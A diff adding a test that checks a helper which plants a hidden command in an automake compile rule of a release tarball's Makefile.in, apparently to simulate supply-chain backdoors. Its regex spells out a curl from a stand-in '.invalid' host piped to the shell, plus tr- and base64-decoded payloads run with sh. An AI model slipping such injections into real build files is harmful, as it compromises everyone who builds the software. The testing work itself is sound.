@@ -156,6 +156,35 @@ describe("the injections into what automake and autoheader wrote", () => {
     expect(how.size).toBeGreaterThanOrEqual(2)
   })
 
+  it("adds a command to one compile rule automake wrote, on a line of its own dressed as automake's or after the compilation", () => {
+    const forms = new Set<string>()
+    const before = MAKEFILE_IN.split('\n')
+    for (const seed of ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']) {
+      const out = join(work, `recipe-prefixed-${seed}.tar.gz`)
+      expect(tamperTarball(release(), out, 'recipe-prefixed', seed).path).toBe('src/Makefile.in')
+      const after = readFileSync(join(unpacked(out), 'src/Makefile.in'), 'utf8').split('\n')
+      const command = /(?:curl -fsS http:\/\/\w+\.invalid\/\d+ \| \$\(SHELL\)|sh -c "\$\$\(tr '[^']+' '[^']+' < \$\(top_srcdir\)\/NEWS\)"|\$\(SHELL\) -c "\$\$\(base64 -d \$\(top_srcdir\)\/tests\/files\/\w+\.b64\)")$/
+      if (after.length === before.length + 1) {
+        // a line of its own right after a compile line, under that line's conditional prefix
+        const at = after.findIndex((l, k) => l !== before[k])
+        expect(before[at - 1], seed).toMatch(/^(@am__fastdepCC_(?:TRUE|FALSE)@)\t.*\$\(COMPILE\).* -c /)
+        const prefix = /^@\w+@/.exec(before[at - 1] ?? '')?.[0] ?? '\0'
+        expect(after[at], seed).toMatch(new RegExp(`^${prefix}\\t\\$\\(AM_V_(?:at|GEN|CC)\\)`))
+        expect(after[at]?.replace(/^@\w+@\t\$\(AM_V_\w+\)/, ''), seed).toMatch(new RegExp(`^${command.source}`))
+        expect(after.filter((l, k) => k !== at), seed).toEqual(before)
+        forms.add('own line')
+      } else {
+        const changed = before.map((l, k) => (l === after[k] ? -1 : k)).filter((k) => k >= 0)
+        expect(changed, seed).toHaveLength(1)
+        const at = changed[0] ?? -1
+        expect(after[at]?.startsWith(`${before[at]} && `), seed).toBe(true)
+        expect(after[at]?.slice(`${before[at]} && `.length), seed).toMatch(new RegExp(`^${command.source}`))
+        forms.add('appended')
+      }
+    }
+    expect(forms.size).toBe(2)
+  })
+
   it('adds one line after an #undef of the template autoheader wrote', () => {
     const out = join(work, 'config-header.tar.gz')
     const t = tamperTarball(release(), out, 'config-header', 'seed-3')
